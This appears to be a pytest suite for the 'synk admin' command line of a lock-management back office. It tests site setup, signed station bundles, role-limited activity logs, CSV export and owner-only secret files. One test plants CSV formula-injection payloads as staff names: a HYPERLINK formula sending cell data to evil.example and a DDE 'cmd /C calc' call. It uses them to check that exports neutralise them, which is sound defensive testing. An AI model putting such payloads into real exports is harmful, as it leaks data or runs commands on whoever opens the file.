"""``synk admin``: help, a site from nothing to a station's bundle, clear errors, CSV, config."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding
from sqlalchemy import select

from firmware import ed25519
from firmware import station_config as firmware_config
from host import csvfile
from host.backoffice import passwords
from host.backoffice.models import User
from host.backoffice.service import BackOffice
from host.backoffice.site import Site
from host.cli import main
from protocol import pin_secret
from protocol.records import decode_record, signed_part
from tests.tls_pki import ca_certificate_der

from ..csv_safety import cells, formulas, naive_formulas
from .builders import keypair, lock_event, lock_record, upload


def _synk() -> list[str]:
    """The installed ``synk`` command (pyproject's entry point), else the module."""
    found = shutil.which("synk", path=str(Path(sys.executable).parent))
    return [found] if found else [sys.executable, "-m", "host.cli"]


def _run(tmp: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SYNK_")}
    return subprocess.run(
        [*_synk(), *args], cwd=tmp, env=env, capture_output=True, text=True, timeout=120
    )


class Cli:
    """``synk admin …`` in this process, against one site; returns parsed JSON output."""

    def __init__(self, site: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.site = site
        self.capsys = capsys

    def __call__(self, *args: str, status: int = 0) -> Any:
        self.capsys.readouterr()
        got = main(["admin", *args, "--site", str(self.site), "--json"])
        out, err = self.capsys.readouterr()
        assert got == status, err
        self.err = err
        return json.loads(out) if status == 0 and out.strip() else None


def test_help_lists_every_area_and_the_database_setting(tmp_path: Path) -> None:
    shown = _run(tmp_path, "admin", "--help")
    assert shown.returncode == 0, shown.stderr
    for area in ("init", "provider", "unit", "station", "staff", "key", "lock", "customer"):
        assert area in shown.stdout
    assert "SYNK_DATABASE_URL" in shown.stdout
    assert "Create a new site" in shown.stdout and "Skapa en ny installation" in shown.stdout
    serve = _run(tmp_path, "backoffice", "serve", "--help")
    assert "--db URL" in serve.stdout


def test_from_a_fresh_directory_to_a_verified_bundle(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    made = _run(tmp_path, "admin", "init", "--site", "site", "--password", "pw", "--json")
    assert made.returncode == 0, made.stderr
    (authority,) = json.loads(made.stdout)["authority"]
    assert (tmp_path / "site" / "synk.db").exists()

    cli = Cli(tmp_path / "site", capsys)
    provider = cli("provider", "add", "Haninge kommun", "--kind", "municipal")["id"]
    unit = cli("unit", "add", "Hemtjänst Nord", "--provider", str(provider))["id"]
    station = cli("station", "add", "--unit", str(unit), "--name", "Nord 1")
    staff = cli("staff", "add", "Anna Andersson", "--unit", str(unit), "--code", "482913")["id"]
    _private, public = keypair()
    enrolled = tmp_path / "key-101.secret"  # the pin secret the enrolment wrote (SPEC 5.11)
    enrolled.write_text((bytes(range(32))).hex() + "\n", encoding="ascii")
    key = cli(
        "key",
        "add",
        "--staff",
        str(staff),
        "--public-key",
        public.hex(),
        "--id",
        "101",
        "--pin-secret-file",
        str(enrolled),
    )
    assert key["pin_secret"] == bytes(range(32)).hex()
    customer = cli("customer", "add", "K-0001", "--unit", str(unit))["id"]
    cli("lock", "add", "--type", "customer_door", "--id", "7")
    cli("lock", "install", "7", "--address", "Storgatan 1", "--customer", str(customer))

    out = tmp_path / "bundle.bin"
    shown = cli("bundle", "--station", str(station["id"]), "--out", str(out))
    assert shown["serial"] == 1
    data = out.read_bytes()
    bundle = decode_record("bundle", data)
    authority_public = bytes.fromhex(authority["public_key"])
    assert ed25519.verify(authority_public, signed_part("bundle", data), bundle["signature"])
    assert [k["key_id"] for k in bundle["keys"]] == [101]
    assert bundle["keys"][0]["code_verifier"] == pin_secret.verifier(
        "482913", bundle["keys"][0]["code_salt"], bundle["code_iterations"], bytes(range(32))
    )
    assert bundle["lock_lists"] == [[7]]
    again = cli("key", "pin-secret", "101")  # enrolled again: a new secret, printed this once
    assert len(bytes.fromhex(again["pin_secret"])) == 32
    enrolled.write_text("not hex", encoding="ascii")
    cli("key", "pin-secret", "101", "--pin-secret-file", str(enrolled), status=2)
    assert "ska vara 32 byte (64 hexadecimala tecken) / The key's pin secret must be" in cli.err

    lost = cli("key", "lost", "101", "--reason", "tappad i bussen")
    assert lost["state"] == "lost"
    cli("bundle", "--station", str(station["id"]), "--out", str(out))
    bundle = decode_record("bundle", out.read_bytes())
    assert (bundle["serial"], bundle["keys"]) == (2, [])
    assert decode_record("blocklist", bundle["blocklist"])["key_ids"] == [101]
    history = cli("key", "show", "101")["history"]
    assert [(h["to"], h["by"], h["reason"]) for h in history][-1] == (
        "lost",
        "admin",
        "tappad i bussen",
    )


@pytest.fixture
def cli(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Cli:
    assert main(["admin", "init", "--site", str(tmp_path / "site"), "--password", "pw"]) == 0
    made = Cli(tmp_path / "site", capsys)
    made("provider", "add", "Kommunen", "--kind", "municipal")
    made("unit", "add", "Nord", "--provider", "1")
    made("unit", "add", "Syd", "--provider", "1")
    return made


def test_errors_are_clear_in_swedish_then_english_with_exit_statuses(cli: Cli) -> None:
    cli("key", "show", "999", status=3)
    assert "Nyckeln 999 finns inte / Key 999 not found" in cli.err
    cli("provider", "add", "Kommunen", "--kind", "private", status=4)
    assert "Utföraren Kommunen finns redan / Provider Kommunen already exists" in cli.err
    cli("user", "add", "granskare", "--role", "reviewer", "--password", "pw")
    cli("provider", "add", "Omsorg AB", "--kind", "private", "--as", "granskare", status=5)
    assert "får inte" in cli.err and "may not" in cli.err
    cli("activity", "--since", "igår", status=2)
    assert "Ogiltig tid" in cli.err and "Invalid time" in cli.err
    cli("staff", "add", "X", "--unit", "1", "--code", "123456", status=2)
    assert "lätt att gissa" in cli.err
    cli("lock", "remove", "1", status=3)
    cli("lock", "add", "--type", "key_box", "--id", "1")
    cli("lock", "remove", "1", status=4)
    assert "inte monterat / Lock 1 is not installed" in cli.err


def test_a_unit_manager_cannot_read_another_units_activity_log(cli: Cli) -> None:
    station = cli("station", "add", "--unit", "1", "--name", "Nord 1")
    staff = cli("staff", "add", "Anna Andersson", "--unit", "1", "--code", "482913")["id"]
    cli("key", "add", "--staff", str(staff), "--public-key", keypair()[1].hex(), "--id", "101")
    customer = cli("customer", "add", "K-1", "--unit", "1")["id"]
    lock = cli("lock", "add", "--type", "customer_door", "--id", "7")
    cli("lock", "install", "7", "--address", "Storgatan 1", "--customer", str(customer))
    event = lock_event(bytes.fromhex(lock["secret"]), 7, 101, 1, int(time.time()) + 1)
    site = Site.open(cli.site)
    try:
        office = BackOffice(site)
        actor = office.authenticate_station(station["credential"])
        office.ingest_upload(actor, station["id"], upload(station["id"], 1, [lock_record(event)]))
    finally:
        site.close()
    cli("user", "add", "chef.nord", "--role", "unit_manager", "--unit", "1", "--password", "pw")
    cli("user", "add", "chef.syd", "--role", "unit_manager", "--unit", "2", "--password", "pw")
    assert [(r["lock_id"], r["staff"]) for r in cli("activity")] == [(7, "Anna Andersson")]
    assert len(cli("activity", "--as", "chef.nord", "--customer", str(customer))) == 1
    assert cli("activity", "--as", "chef.syd") == []
    assert cli("activity", "--as", "chef.syd", "--lock", "7") == []
    assert cli("activity", "--as", "chef.syd", "--staff", str(staff)) == []
    cli("user", "add", "tekniker", "--role", "technician", "--password", "pw")
    cli("activity", "--as", "tekniker", status=5)
    # Every read was recorded; only the administrator reads that record.
    reads = cli("activity-reads")
    assert [(r["username"], r["source"]) for r in reads][:2] == [("chef.syd", "cli")] * 2
    assert {r["username"] for r in reads} == {"admin", "chef.nord", "chef.syd"}
    assert [r["query"] for r in cli("activity-reads", "--user", "chef.nord")] == [
        f'{{"customer_id": {customer}}}'
    ]
    cli("activity-reads", "--as", "chef.nord", status=5)


def test_a_new_password_is_shown_once_and_ends_the_users_sessions(cli: Cli) -> None:
    cli("user", "add", "granskare", "--role", "reviewer", "--password", "gammalt-pw")
    row = cli("user", "password", "granskare")
    assert row["username"] == "granskare"
    shown = re.search(r"\(visas bara nu\): (\S+)", cli.err)
    assert shown is not None
    site = Site.open(cli.site)
    try:
        with site.sessions() as session:
            stored = session.scalars(
                select(User.password_hash).where(User.username == "granskare")
            ).one()
    finally:
        site.close()
    assert passwords.verify_password(shown.group(1), stored)
    assert not passwords.verify_password("gammalt-pw", stored)
    cli("user", "password", "ingen", status=3)


def test_lists_and_the_activity_log_export_csv(cli: Cli, tmp_path: Path) -> None:
    cli("staff", "add", "Anna Andersson", "--unit", "1", "--code", "482913")
    cli("staff", "add", "Bo Berg", "--unit", "2", "--code", "615240")
    path = tmp_path / "staff.csv"
    cli("staff", "list", "--csv", str(path), "--csv-dialect", "plain")
    with path.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["name"], r["unit_id"], r["active"]) for r in rows] == [
        ("Anna Andersson", "1", "true"),
        ("Bo Berg", "2", "true"),
    ]
    activity = tmp_path / "activity.csv"
    cli("activity", "--since", "2026-01-01", "--until", "2026-02-01", "--csv", str(activity))
    assert activity.read_text(encoding="utf-8") == ""  # no events: an empty file


def test_grants_and_revocation_from_the_command_line(cli: Cli) -> None:
    staff = cli("staff", "add", "Anna Andersson", "--unit", "1", "--code", "482913")["id"]
    cli("lock", "add", "--type", "common_area", "--id", "4")
    cli("lock", "install", "4", "--address", "Tvättstugan")
    (unit_grant,) = cli("grant", "unit", "--unit", "1", "--lock", "4")
    personal = cli(
        "grant", "personal", "--staff", str(staff), "--lock", "4", "--until", "2099-01-01"
    )
    assert personal["in_sets_until"] is not None
    assert {g["id"] for g in cli("grant", "list")} == {unit_grant["id"], personal["id"]}
    cli("grant", "revoke", str(personal["id"]))
    cli("grant", "revoke", str(personal["id"]), status=4)
    assert [g["id"] for g in cli("grant", "list")] == [unit_grant["id"]]


def test_authority_rotation_in_steps(cli: Cli) -> None:
    (old,) = cli("authority", "list")
    new = cli("authority", "add")
    states = {k["key_id"]: k["state"] for k in cli("authority", "list")}
    assert states == {old["key_id"]: "signing", new["key_id"]: "accepted"}
    cli("authority", "use", new["key_id"])
    cli("authority", "retire", new["key_id"], status=4)  # the signing key stays
    cli("authority", "retire", old["key_id"])
    states = {k["key_id"]: k["state"] for k in cli("authority", "list")}
    assert states == {old["key_id"]: "retired", new["key_id"]: "signing"}
    cli("authority", "use", old["key_id"], status=4)


PKI_DER = ca_certificate_der()
PKI_PEM = x509.load_der_x509_certificate(PKI_DER).public_bytes(Encoding.PEM)


def test_station_config_is_signed_and_accepted_by_the_firmware(cli: Cli, tmp_path: Path) -> None:
    station = cli("station", "add", "--unit", "1", "--name", "Nord 1")
    out = tmp_path / "config"
    cli(
        "station",
        "config",
        str(station["id"]),
        "--url",
        "http://127.0.0.1:8080",
        "--contact",
        "Bemanningen 010-123",
        "--out",
        str(out),
        "--credential",
        station["credential"],
        "--board",
        "emulator",
    )
    data = (out / "station.json").read_bytes()
    assert stat.S_IMODE((out / "station.json").stat().st_mode) == 0o600
    config = firmware_config.parse(data, (out / "station.sig").read_bytes())
    assert (config["station_id"], config["unit_id"]) == (station["id"], 1)
    assert config["credential"] == station["credential"]
    assert config["board"] == "emulator"
    (authority,) = cli("authority", "list")
    assert config["authority_keys"] == [authority["public_key"]]
    cli(
        "station",
        "config",
        str(station["id"]),
        "--url",
        "ftp://x",
        "--contact",
        "x",
        "--out",
        str(out),
        status=2,
    )
    cli(
        "station",
        "config",
        str(station["id"]),
        "--url",
        "http://x",
        "--contact",
        "x",
        "--out",
        str(out),
        "--credential",
        "not-the-credential",
        status=2,
    )


def test_an_https_station_config_carries_the_back_office_ca(cli: Cli, tmp_path: Path) -> None:
    station = cli("station", "add", "--unit", "1", "--name", "Nord 1")
    out = tmp_path / "config"
    https = ["station", "config", str(station["id"]), "--url", "https://bo.example.se"]
    rest = ["--contact", "Bemanningen 010-123", "--out", str(out)]
    rest += ["--credential=" + station["credential"]]
    cli(*https, *rest, status=2)  # no CA: the station could never connect
    assert not out.exists()
    ca = tmp_path / "ca.pem"
    ca.write_bytes(PKI_PEM)
    cli(*https, *rest, "--ca", str(ca))
    config = firmware_config.parse(
        (out / "station.json").read_bytes(), (out / "station.sig").read_bytes()
    )
    assert firmware_config.backoffice_ca(config) == PKI_DER


def test_csv_exports_neutralise_formulas_in_both_dialects(cli: Cli, tmp_path: Path) -> None:
    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
    command = "Eva Ek;=cmd|' /C calc'!A0"
    cli("staff", "add", hyperlink, "--unit", "1", "--code", "482913")
    cli("staff", "add", command, "--unit", "2", "--code", "615240")
    plain, swedish = tmp_path / "staff.csv", tmp_path / "staff-sv.csv"
    cli("staff", "list", "--csv", str(plain), "--csv-dialect", "plain")
    cli("staff", "list", "--csv", str(swedish))
    for path, delimiter, name in ((plain, ",", "name"), (swedish, ";", "Namn")):
        content = path.read_bytes().decode("utf-8")
        assert content.startswith("\ufeff") == (delimiter == ";")
        assert formulas(content) == [], path.name
        assert naive_formulas(content, ",") == naive_formulas(content, ";") == []
        header, *rows = cells(content, delimiter)
        names = [row[header.index(name)] for row in rows]
        assert names == ["'" + hyperlink, "'Eva Ek;'=cmd|' /C calc'!A0"]
        assert [r[name] for r in csvfile.read_records(content)] == [hyperlink, command]


def test_every_list_exports_swedish_by_default_and_plain_for_scripts(
    cli: Cli, tmp_path: Path
) -> None:
    """Issue 16.8: each list's CSV read back with ``csv`` in both dialects: Swedish headers,
    ja/nej, the Swedish words of codes and local ``ÅÅÅÅ-MM-DD tt:mm``; or the English."""
    staff = cli("staff", "add", "Anna Andersson", "--unit", "1", "--code", "482913")["id"]
    cli("key", "add", "--staff", str(staff), "--id", "7", "--public-key", keypair()[1].hex())
    cli("key", "block", "7", "--reason", "tappad?")
    cli("lock", "add", "--type", "key_box", "--id", "4")
    lists = {
        "staff": ("staff", "list"),
        "keys": ("key", "list"),
        "locks": ("lock", "list"),
        "users": ("user", "list"),
        "units": ("unit", "list"),
    }
    seen: set[str] = set()
    for name, command in lists.items():
        swedish, plain = tmp_path / f"{name}.csv", tmp_path / f"{name}-plain.csv"
        cli(*command, "--csv", str(swedish))
        cli(*command, "--csv", str(plain), "--csv-dialect", "plain")
        sv_text = swedish.read_text(encoding="utf-8")
        assert sv_text.startswith("\ufeff"), name
        sv_rows = list(csv.reader(io.StringIO(sv_text[1:], newline=""), delimiter=";"))
        with plain.open(encoding="utf-8", newline="") as handle:
            plain_rows = list(csv.reader(handle))
        assert len(sv_rows) == len(plain_rows) > 1, name
        assert all(re.fullmatch(r"[a-z_]+", c) for c in plain_rows[0]), name
        assert not any("_" in c for c in sv_rows[0]), (name, sv_rows[0])
        for sv_row, plain_row in zip(sv_rows[1:], plain_rows[1:], strict=True):
            for sv_cell, plain_cell in zip(sv_row, plain_row, strict=True):
                assert sv_cell not in ("true", "false") and plain_cell not in ("ja", "nej")
                if re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", plain_cell):
                    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", sv_cell), sv_cell
                seen.add(sv_cell)
    assert {"spärrad", "Nyckelgömma", "ja", "administratör"} <= seen


def test_every_secret_written_is_owner_only_from_the_start(cli: Cli, tmp_path: Path) -> None:
    station = cli("station", "add", "--unit", "1", "--name", "Nord 1")
    cli("staff", "add", "Anna Andersson", "--unit", "1", "--code", "482913")
    cli("user", "add", "tina", "--role", "technician", "--password", "pw")
    private = tmp_path / "hemligt"  # not there yet: made 0700
    old = os.umask(0)  # a file made without a mode of its own would be 0666
    try:
        cli("bundle", "--station", str(station["id"]), "--out", str(private / "bundle.bin"))
        cli(
            "service-token",
            "--station",
            str(station["id"]),
            "--technician",
            "tina",
            "--allow",
            "set-clock",
            "--out",
            str(private / "token.bin"),
        )
        config = private / "config"
        rest = ["--contact", "Bemanningen 010-123", "--out", str(config)]
        cli("station", "config", str(station["id"]), "--url", "http://127.0.0.1:8080", *rest)
    finally:
        os.umask(old)
    for path in (private / "bundle.bin", private / "token.bin", *config.iterdir()):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert stat.S_IMODE(private.stat().st_mode) == stat.S_IMODE(config.stat().st_mode) == 0o700
    assert stat.S_IMODE((cli.site / "synk.db").stat().st_mode) == 0o600
    assert stat.S_IMODE(cli.site.stat().st_mode) == 0o700

    shared = tmp_path / "delad"
    shared.mkdir(mode=0o755)
    shared.chmod(0o755)
    cli("bundle", "--station", str(station["id"]), "--out", str(shared / "b.bin"), status=2)
    assert "chmod 700" in cli.err and list(shared.iterdir()) == []
